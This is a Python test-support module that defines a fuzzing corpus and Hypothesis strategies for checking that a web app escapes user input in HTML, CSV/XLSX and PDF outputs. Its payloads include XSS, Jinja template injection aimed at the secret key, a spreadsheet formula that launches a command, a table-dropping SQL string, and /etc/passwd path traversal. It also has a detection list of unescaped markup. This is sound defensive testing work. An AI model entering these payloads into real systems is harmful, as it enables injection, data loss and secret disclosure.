"""A corpus of hostile text, and hypothesis strategies built from it.

Every entry is something a user can type into a text field and that has broken a web application
somewhere: markup and script, template syntax, spreadsheet formulas, control characters, bidi and
zero-width tricks, astral-plane characters, paths and URLs to local files, SQL, and sheer length.
tests/security/test_payloads.py stores each one where a text field reaches an output (HTML pages,
CSV and XLSX exports, PDF certificates); tests/security/test_fuzz.py posts them, and random text,
to every form.
"""
from __future__ import annotations

from typing import NamedTuple

from hypothesis import strategies as st


class Payload(NamedTuple):
    name: str
    value: str


PAYLOADS: list[Payload] = [
    # markup and script
    Payload("script", "<script>alert(1)</script>"),
    Payload("attribute_breakout", '"><img src=x onerror=alert(1)>'),
    Payload("single_quote_breakout", "'><svg onload=alert(1)>"),
    Payload("javascript_url", "javascript:alert(1)"),
    Payload("entity", "&lt;b&gt; &amp; &#60;script&#62;"),
    Payload("closing_textarea", "</textarea><script>alert(1)</script>"),
    Payload("local_image", '<img src="file:///etc/passwd">'),
    Payload("attachment_link", '<link rel="attachment" href="file:///etc/passwd">'),
    # template injection (Jinja in HTML, Jinja in the PDF template)
    Payload("jinja_expression", "{{7*7}}"),
    Payload("jinja_statement", "{% raw %}{{ config }}{% endraw %}"),
    Payload("jinja_config", "{{ config.SECRET_KEY }}"),
    # spreadsheet formulas (CSV/XLSX injection)
    Payload("formula_cmd", "=cmd|' /C calc'!A0"),
    Payload("formula_hyperlink", '=HYPERLINK("http://example.com/?x="&A1,"click")'),
    Payload("formula_plus", "+1+1"),
    Payload("formula_minus", "-2+3"),
    Payload("formula_at", "@SUM(A1)"),
    Payload("formula_tab", "\t=1+1"),
    Payload("formula_cr", "\r=1+1"),
    Payload("formula_lf", "\n=1+1"),
    Payload("negative_number_text", "-1.5"),
    # control characters
    Payload("nul", "before\x00after"),
    Payload("c0_controls", "bell\x07 backspace\x08 escape\x1b[31m vt\x0b ff\x0c"),
    Payload("del_and_c1", "del\x7f c1\x85\x9b"),
    Payload("tab_cr_lf", "line one\tcell\r\nline two\n"),
    # unicode
    Payload("rtl_override", "invoice\u202egnp.exe"),
    Payload("zero_width", "zero\u200bwidth\u200c\u200d\ufeffjoiner"),
    Payload("emoji", "🌊🌱🏫 volunteer 👩🏽‍🔬"),
    Payload("astral", "𠮷野家 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \U0010fffd"),
    Payload("japanese", "海岸清掃〜「地域」と共に"),
    Payload("combining", "Z̴̡̪͇̈́a̵̛̳l̸̠̿g̷̰̈́o̶̧͝"),
    # paths, URLs, SQL
    Payload("sql", "'; DROP TABLE users;--"),
    Payload("sql_or", "' OR '1'='1"),
    Payload("path_traversal", "../../etc/passwd"),
    Payload("file_url", "file:///etc/passwd"),
    Payload("pdf_header", "%PDF-1.4\n%%EOF"),
    Payload("format_string", "%s %(name)s {0} {name}"),
    # size
    Payload("long", "A" * 100_000),
    Payload("long_multibyte", "拠" * 5_000),
]

BY_NAME = {payload.name: payload.value for payload in PAYLOADS}
assert len(BY_NAME) == len(PAYLOADS), "payload names are unique"

# Strings that must never appear in an HTML response: each is the start of markup that a payload
# above would put into the page if it were not escaped. (Our own pages contain none of them.)
RAW_MARKUP = (
    "<script>alert",
    "<img src=x onerror",
    "<svg onload",
    '<img src="file:',
    '<link rel="attachment"',
    "</textarea><script>",
)


def unescaped_markup(html: str) -> list[str]:
    """The raw (unescaped) payload markup found in `html`; [] when the page is safe."""
    return [marker for marker in RAW_MARKUP if marker in html]


# --- hypothesis strategies ------------------------------------------------------------------------

# Text from the whole of Unicode except surrogates (which cannot be encoded in a request), with
# control characters included on purpose.
any_text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=60)
control_text = st.text(alphabet=st.characters(max_codepoint=0x9F, categories=("Cc",)), min_size=1, max_size=5)
corpus = st.sampled_from([payload.value for payload in PAYLOADS])
numbers = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30),
    st.sampled_from([0, -1, 2**31 - 1, 2**31, -(2**31) - 1, 2**63, -(2**63) - 1, 10**400]),
).map(str)
odd_numbers = st.sampled_from(["1e309", "-0", "NaN", "inf", "-inf", "0x1F", "1_000", "１２３", "1.23456789e-300", "١٢"])


def _mixed(parts: list[str]) -> str:
    return "".join(parts)


hostile_text = st.one_of(
    corpus,
    corpus,  # twice as likely as the other kinds: it is what the outputs are checked for
    any_text,
    st.lists(st.one_of(corpus, any_text, control_text), min_size=2, max_size=3).map(_mixed),
    numbers,
    odd_numbers,
    st.just(""),
)


def field_value(choices: list[str] = (), default: str | None = None):
    """Values for one form field: hostile text, a number, several values at once (a field sent
    twice), a legitimate choice or the page's own value (so that the rest of the form gets past
    validation and stores the hostile parts), or None for a field left out of the request."""
    options = [hostile_text, st.lists(hostile_text, min_size=2, max_size=3), st.none()]
    legit = [value for value in [*choices, default] if value is not None]
    if legit:
        options += [st.sampled_from(legit)] * 2
    return st.one_of(options)
